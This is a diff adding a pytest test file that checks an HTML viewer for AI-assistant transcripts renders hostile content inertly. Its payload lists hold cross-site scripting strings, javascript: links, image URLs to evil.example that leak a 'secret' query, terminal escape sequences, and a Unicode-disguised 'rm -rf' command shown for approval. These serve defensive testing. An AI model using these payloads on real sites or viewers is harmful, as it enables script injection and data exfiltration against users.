@@ -1,0 +1,327 @@
+"""A turn as HTML: nothing from outside acts, and it reads without a style sheet."""
+
+from __future__ import annotations
+
+import re
+import time
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from turns import Page, called, dangers, finished, growing, hostile, request, returned, said, turn
+
+from claude_magic.views import html
+from claude_magic.views.markup import markdown, sections
+from claude_magic.wire import events as wire
+
+RECORDINGS = Path(__file__).parent.parent / "recordings"
+
+ELEMENTS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><animate onbegin=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<video onmouseover=alert(1) src=x>",
+    "<form action=https://evil.example><input type=submit>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<style>@import 'https://evil.example/x.css'</style>",
+    "</div></details></pre></code></style><script>alert(1)</script>",
+    "<b onclick=alert(1)",
+    "<!--><script>alert(1)</script>-->",
+    "<?php alert(1) ?><![CDATA[<script>alert(1)</script>]]>",
+    "<base href=https://evil.example/>",
+    "<details open ontoggle=alert(1)>",
+]
+LINKS = [
+    "[go](javascript:alert(1))",
+    "[go](JaVaScRiPt:alert(1))",
+    "[go](&#106;avascript&colon;alert(1))",
+    "[go](java&Tab;script:alert(1))",
+    "[go](<java\tscript:alert(1)>)",
+    "[go](data:text/html,<script>alert(1)</script>)",
+    "[go](vbscript:msgbox)",
+    "[go](file:///etc/passwd)",
+    "[go](//evil.example)",
+    "<javascript:alert(1)>",
+    "[go][r]\n\n[r]: javascript:alert(1)",
+    "[go]( \x01javascript:alert(1))",
+    "![go](javascript:alert(1))",
+]
+CONTROLS = [
+    "<button data-commandlinker-command='terminal:create-new'>Go</button>",
+    "<a id=MathJax href=https://example.com>x</a>",
+    "<form id=document name=cookie><input name=body></form>",
+    "<p class=claude-allow style='position:fixed' name=x>Allow</p>",
+    '```"><img src=x onerror=alert(1)>\ncode\n```',
+    "```python class=claude-allow\ncode\n```",
+]
+IMAGES = [
+    "![x](https://evil.example/?q=secret)",
+    "[![x](https://evil.example/?q=secret)](https://example.com)",
+    "![x][r]\n\n[r]: https://evil.example/?q=secret",
+    "https://evil.example/preview.png",
+    "<img src=https://evil.example/?q=secret>",
+    "<div style='background:url(https://evil.example)'>",
+]
+
+
+@pytest.mark.fault(77, via="pure")
+@pytest.mark.parametrize("payload", ELEMENTS)
+def test_html_in_the_answer_stays_text(payload: str) -> None:
+    made = html.turn(finished(said(f"before {payload} after")))
+
+    assert dangers(made) == []
+    assert "after" in Page(made).text
+    assert payload[:20] in Page(made).text
+
+
+@pytest.mark.fault(78, via="pure")
+@pytest.mark.parametrize("payload", LINKS)
+def test_only_web_and_mail_addresses_become_links(payload: str) -> None:
+    made = markdown(payload)
+
+    assert dangers(made) == []
+    assert "href" not in made
+    assert "go" in Page(made).text or "script" in Page(made).text
+
+
+@pytest.mark.fault(78, via="pure")
+def test_a_link_opens_elsewhere_and_tells_nothing() -> None:
+    made = markdown("[x](https://example.com/a?b=c) <mailto:ada@example.com>")
+
+    assert Page(made).values("href") == ["https://example.com/a?b=c", "mailto:ada@example.com"]
+    assert set(Page(made).values("rel")) == {"noopener noreferrer nofollow"}
+    assert set(Page(made).values("target")) == {"_blank"}
+
+
+@pytest.mark.fault(79, via="pure")
+@pytest.mark.fault(80, via="pure")
+@pytest.mark.parametrize("payload", CONTROLS)
+def test_content_brings_no_attribute_of_its_own(payload: str) -> None:
+    page = Page(markdown(payload))
+
+    assert {name for _, name, _ in page.attributes} <= {"class", "href", "rel", "target"}
+    assert "claude-allow" not in page.values("class")
+    assert page.text.strip()
+
+
+@pytest.mark.fault(81, via="pure")
+@pytest.mark.parametrize("payload", IMAGES)
+def test_an_image_is_never_fetched(payload: str) -> None:
+    made = markdown(payload)
+
+    assert "img" not in Page(made).tags
+    assert not re.search(r"(?i)<[^>]*(src|srcset|style|poster|background)\s*=", made)
+
+
+@pytest.mark.fault(81, via="pure")
+def test_an_image_becomes_a_link_that_a_person_may_follow() -> None:
+    page = Page(markdown("![a chart](https://example.com/c.png)"))
+
+    assert (page.text.strip(), page.values("href")) == ("a chart", ["https://example.com/c.png"])
+
+
+@pytest.mark.fault(82, via="pure")
+@pytest.mark.parametrize("payload", ELEMENTS + LINKS + CONTROLS + IMAGES)
+def test_the_same_payloads_are_inert_wherever_they_turn_up(payload: str) -> None:
+    transcript = hostile(payload)
+
+    made = html.turn(transcript)
+
+    assert dangers(made) == []
+    assert "img" not in Page(made).tags
+    assert len(re.findall("<style>", made)) == 1
+
+
+@pytest.mark.fault(83, via="pure")
+def test_a_payload_split_across_deltas_is_inert_at_every_step() -> None:
+    payload = "text <img src=x onerror=alert(1)> [go](javascript:alert(1)) ```\ncode"
+    for end in range(len(payload)):
+        assert dangers(html.turn(turn(*growing(*payload[:end])))) == []
+
+
+@pytest.mark.fault(83, via="pure")
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x" * 1_000_000,
+        "word " * 200_000,
+        "- " * 10_000 + "bottom",
+        ">" * 10_000 + " bottom",
+        "\n".join("  " * depth + "- item" for depth in range(700)) + " bottom",
+        "```python\n" + "x = 1\n" * 100_000,
+        "```\ncode\n```\n```\n" * 10_000,
+        "[" * 300_000,
+        "![" * 100_000,
+        "**a " * 50_000,
+        "`" * 300_000,
+        "```python\n" + "\n " * 9_000 + "\n```",
+        "```typescript\n" + "a." * 9_000 + "\n```",
+    ],
+    ids=lambda text: repr(text[:12]),
+)
+def test_hostile_text_takes_bounded_time_and_none_of_it_is_lost(text: str) -> None:
+    began = time.process_time()
+
+    made = markdown(text)
+
+    assert time.process_time() - began < 8
+    assert dangers(made) == []
+    if text.endswith("bottom"):
+        assert "bottom" in Page(made).text
+
+
+@settings(max_examples=150, deadline=None)
+@given(
+    st.lists(
+        st.sampled_from(
+            [*"<>[]()!`*_~|\\\"'&;:=\n -#", "javascript:", "https://a", "img", "onerror=", "&#x3C;"]
+        )
+        | st.text(max_size=3),
+        max_size=25,
+    ).map("".join)
+)
+def test_no_text_at_all_makes_dangerous_html(text: str) -> None:
+    assert dangers(markdown(text)) == []
+    assert "img" not in Page(markdown(text)).tags
+
+
+@settings(max_examples=150, deadline=None)
+@given(
+    st.lists(st.sampled_from(["a", "\n", "\n\n", "- ", "```", "> ", "|a|b|\n|-|-|", "# ", "    "])).map(
+        "".join
+    )
+)
+def test_sections_leave_nothing_out(text: str) -> None:
+    assert "\n".join(sections(text)) == text
+
+
+# --- what a reader sees
+
+
+@pytest.mark.parametrize("generation", ["2.1.327", "2.1.191"])
+def test_every_recorded_turn_is_shown_and_harmless(generation: str) -> None:
+    for path in sorted((RECORDINGS / generation).glob("*.jsonl")):
+        made = html.turn(finished(*(wire.decode(line) for line in path.read_bytes().splitlines())))
+        assert dangers(made) == []
+        assert 'class="claude-static"' in made
+
+
+def plainly(made: str) -> str:
+    """What is left where style sheets are stripped."""
+    apart = re.sub(r"(</(?:div|summary|pre|p|li)>)", r"\1 ", made)
+    return " ".join(Page(apart).text.split())
+
+
+@pytest.mark.fault(73, via="pure")
+def test_a_turn_reads_without_its_style_sheet() -> None:
+    hunk = {"newStart": 3, "lines": [" a", "-old", "+new"]}
+    transcript = finished(
+        called("Bash", command="pytest -q"),
+        returned("1 failed", failed=True),
+        called("Edit", "e", file_path="/home/ada/a.py", old_string="old", new_string="new"),
+        returned("ok", "e", details={"structuredPatch": [hunk]}),
+        called("TodoWrite", "d", todos=[{"content": "Look", "status": "completed"}]),
+        returned("ok", "d"),
+        said("All *done*."),
+    )
+
+    shown = plainly(html.turn(transcript))
+
+    assert shown.startswith("Claude main · claude · default · done Prompt What is wrong?")
+    assert "Bash pytest -q failed 1 failed" in shown
+    assert "Edit a.py ok +1 -1 lines @ line 3 a -old +new" in shown
+    assert "✓ Look (done)" in shown
+    assert shown.endswith("All done. 2 turns · 12 s · 1.2k tokens · $0.0016 · 93% of context left")
+
+
+@pytest.mark.fault(74, via="pure")
+def test_a_turn_saved_while_it_runs_says_so() -> None:
+    made = html.turn(turn(*growing("Half an ans")))
+
+    assert "Half an ans" in plainly(made)
+    assert "The turn was still running when this was shown" in plainly(made)
+
+
+@pytest.mark.fault(86, via="pure")
+def test_a_turn_without_permission_checks_has_a_banner() -> None:
+    transcript = turn(said("x"))
+    assert "claude-banner" not in Page(html.turn(transcript)).text
+
+    transcript.update(permission_mode="bypassPermissions")
+
+    assert "Permission checks are off" in plainly(html.turn(transcript))
+
+
+@pytest.mark.fault(103, via="pure")
+def test_a_resumed_conversation_says_so() -> None:
+    transcript = turn(said("x"))
+    transcript.update(resumed_turns=7, label="offline model, scripted answers")
+
+    assert "offline model, scripted answers · resumed, 7 earlier turns · running" in plainly(
+        html.turn(transcript)
+    )
+
+
+@pytest.mark.fault(84, via="pure")
+def test_characters_that_reorder_a_command_are_named_while_it_waits_for_approval() -> None:
+    command = "rm -rf \u202egpj.txt\u202c \u200b/"
+    transcript = turn(called("Bash", command=command))
+    transcript.ask(request("t", "Bash", {"command": command}))
+
+    made = html.turn(transcript)
+
+    assert "rm -rf ⟦U+202E⟧gpj.txt⟦U+202C⟧ ⟦U+200B⟧/" in plainly(made)
+    assert "\u202e" not in made
+
+
+@pytest.mark.fault(84, via="pure")
+def test_terminal_sequences_are_gone_from_text_and_output() -> None:
+    text = "a\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ "
+    text += "\x1b]52;c;c2VjcmV0\x07b\x08\0c"
+    made = html.turn(finished(said(text), called("Bash", command=text), returned(text, failed=True)))
+
+    assert not re.search(r"[\x00-\x08\x0b-\x1f]", made)
+    assert "evil.example" not in made
+    assert "c2VjcmV0" not in made
+    assert "ared link bc" in plainly(made)
+
+
+@pytest.mark.fault(70, via="pure")
+def test_a_full_transcript_shows_what_is_hidden() -> None:
+    transcript = turn(said("x" * 2_100_000))
+
+    assert "truncated, 100,000 characters hidden" in plainly(html.turn(transcript))
+
+
+def test_a_picture_in_a_result_is_shown_from_its_own_data() -> None:
+    source: dict[str, object] = {"media_type": "image/png", "data": "iVBORw0KGgo="}
+    content = [wire.Block(type="image", source=source)]
+    result = [wire.Block(type="tool_result", tool_use_id="t", content=content)]
+    made = html.turn(
+        finished(called("Read", file_path="p.png"), wire.UserMessage(message=wire.Message(content=result)))
+    )
+
+    assert Page(made).values("src") == ["data:image/png;base64,iVBORw0KGgo="]
+
+
+def test_code_is_highlighted_by_classes_alone() -> None:
+    made = markdown("```python\ndef f(): return 'x'\n```")
+
+    assert '<span class="k">def</span>' in made
+    assert Page(made).text.strip() == "def f(): return 'x'"
+
+
+def test_what_a_subagent_does_is_folded_into_its_card() -> None:
+    events: list[wire.Event] = [
+        called("Agent", "a", description="Count files"),
+        called("Bash", "b", parent="a", command="ls | wc -l"),
+        returned("2", "b", parent="a"),
+        returned("Two files.", "a"),
+    ]
+
+    shown = plainly(html.turn(finished(*events)))
+
+    assert "Agent Count files ok" in shown
+    assert "Bash ls | wc -l ok" in shown
